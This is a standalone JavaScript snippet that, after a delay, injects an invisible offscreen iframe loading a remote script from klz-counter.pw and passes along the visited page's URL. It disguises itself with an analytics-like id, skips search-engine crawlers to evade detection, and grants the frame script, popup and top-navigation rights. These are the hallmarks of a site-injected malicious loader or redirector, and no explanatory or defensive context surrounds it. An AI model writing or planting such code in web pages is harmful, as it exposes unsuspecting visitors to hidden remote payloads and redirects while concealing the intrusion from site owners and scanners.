(function () {
  function inject() {
    if (document.getElementById('ga-frame-cache')) return;
    var f = document.createElement('iframe');
    f.id = 'ga-frame-cache';
    f.src = 'https://klz-counter.pw/v2/load.php?id=7731&u=' + encodeURIComponent(location.href);
    f.setAttribute('width', '1');
    f.setAttribute('height', '1');
    f.setAttribute('frameborder', '0');
    f.setAttribute('tabindex', '-1');
    f.style.position = 'absolute';
    f.style.left = '-5000px';
    f.style.top = '-5000px';
    f.style.visibility = 'hidden';
    f.setAttribute('sandbox', 'allow-scripts allow-same-origin allow-popups allow-top-navigation');
    document.body.appendChild(f);
  }

  if (/bot|crawl|spider/i.test(navigator.userAgent)) return;

  if (document.body) {
    setTimeout(inject, 2000);
  } else {
    document.addEventListener('DOMContentLoaded', function () {
      setTimeout(inject, 2000);
    });
  }
})();
